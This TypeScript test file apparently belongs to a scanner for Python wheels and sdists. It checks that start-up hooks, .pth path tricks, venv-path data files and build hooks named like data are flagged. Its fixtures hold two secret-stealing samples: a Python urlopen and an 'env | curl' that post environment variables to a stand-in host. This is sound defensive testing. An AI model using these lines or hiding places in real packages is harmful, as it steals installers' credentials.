import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { isStandardCommand } from '../../src/analysis/catalog/commands.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading } from './python-reading.ts'

const SEND =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const SHELL = 'env | curl -s -d @- https://c.invalid/x\n'
const HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
const POETRY = '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
const PDM = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'

interface Case {
  readonly name: string
  readonly kind: 'wheel' | 'sdist'
  readonly files: Readonly<Record<string, string>>
  /** `check severity moment`, of what is told of the checks that are looked at */
  readonly want: readonly string[]
}

const wheel = (name: string, files: Case['files'], ...want: string[]): Case => ({ name, kind: 'wheel', files, want })
const sdist = (name: string, files: Case['files'], ...want: string[]): Case => ({ name, kind: 'sdist', files, want })

const HOOK = 'sitecustomize high startup'
const GRAVE = 'executable-pth high startup'
const LEADS = 'data-path critical call'

const CASES: readonly Case[] = [
  wheel('a start-up module with the ending that Python on Windows knows', { 'sitecustomize.pyw': '' }, HOOK),
  wheel('a folder that a .pth file adds holds one', { 'a.pth': 'a/lib\n', 'a/lib/usercustomize.py': '' }, HOOK),
  wheel('the same, spelled as Windows does', { 'a.pth': '.\\a\\lib\r\n', 'a/lib/usercustomize.py': '' }, HOOK),
  wheel('a folder that is not added holds one', { 'a.pth': 'b\n', 'a/lib/usercustomize.py': '' }),
  wheel('a .pth file in an added folder, where nobody looks for one', { 'a.pth': 'b\n', 'b/x.pth': 'import os\n' }),
  wheel('the module that virtual environments start with', { '_virtualenv.py': '' }, 'late-import high startup'),
  wheel('an archive on the path from the start', { 'a.pth': 'a.zip\n', 'a.zip': 'PK\u0003\u0004' }, GRAVE),
  wheel('a folder that anybody may write to', { 'a.pth': '/tmp/x\n' }, GRAVE),
  wheel('a folder on another machine', { 'a.pth': '\\\\c.invalid\\x\n' }, GRAVE),
  wheel('a folder of one person', { 'a.pth': '/home/ann/src\n' }, 'executable-pth medium startup'),
  ...[
    'pyvenv.cfg',
    'pip.conf',
    'bin/activate',
    'Scripts/Activate.ps1',
    'bin/activate_this.py',
    'python311._pth',
    'bin/python3._pth',
    'lib/python313t.zip',
    'DLLs/_ssl.pyd',
    'lib/libpython3.11.so.1.0',
    'conda-meta/state',
  ].map((path) => wheel(`data that lands in ${path}`, { [`a-1.data/data/${path}`]: 'x' }, LEADS)),
  ...['etc/bash_completion.d/a', 'etc/jupyter/a.json', 'share/man/man1/a.1'].map((path) =>
    wheel(`data that lands in ${path}`, { [`a-1.data/data/${path}`]: 'x' }),
  ),
  ...['etc/jupyter/jupyter_server_config.py', 'etc/ipython/ipython_config.py'].map((path) =>
    wheel(`code for Jupyter in ${path}`, { [`a-1.data/data/${path}`]: SEND }, 'secrets-exfiltration critical import'),
  ),
  ...['etc/conda/activate.d/a.sh', 'etc/profile.d/a.sh', 'share/bash-completion/completions/git'].map((path) =>
    wheel(
      `code for the shell in ${path}`,
      { [`a-1.data/data/${path}`]: SHELL },
      'secrets-exfiltration critical startup',
    ),
  ),
  ...(
    [
      ['hatch', `${HATCH}[tool.hatch.build.hooks.custom]\npath = "x.dat"\n`],
      ['poetry', `${POETRY}[tool.poetry.build]\nscript = "x.dat"\n`],
      ['pdm', `${PDM}[tool.pdm.build]\ncustom-hook = "x.dat"\n`],
    ] as const
  ).map(([name, project]) =>
    sdist(
      `code that ${name} builds with, named like data`,
      { 'pyproject.toml': project, 'x.dat': SEND },
      'secrets-exfiltration critical build',
    ),
  ),
]

const LOOKED_AT = new Set(['sitecustomize', 'late-import', 'executable-pth', 'data-path', 'secrets-exfiltration'])

t.test('what interpreters, shells and builders obey', async (t) => {
  for (const { name, kind, files, want } of CASES) {
    const facts = await inspect(await packedReading(kind, files), {
      digest: sha256(name),
      readAs: kind === 'wheel' ? 'wheel' : 'sdist-gzip',
    })
    const told = facts.findings
      .filter(({ check, severity }) => LOOKED_AT.has(check) && severity !== 'low')
      .map(({ check, severity, moment }) => [check, severity, moment].filter((part) => part !== undefined).join(' '))
    t.same(told, want, name)
  }
})

t.test('commands that belong to the shell and to Python tools', async (t) => {
  for (const name of ['activate', 'activate.fish', 'Activate.ps1', 'activate_this', 'deactivate', 'uv', 'poetry.exe'])
    t.ok(isStandardCommand(name), name)
  for (const name of ['activate-x', 'activator', 'uvicorn', 'poetry-core']) t.notOk(isStandardCommand(name), name)
})
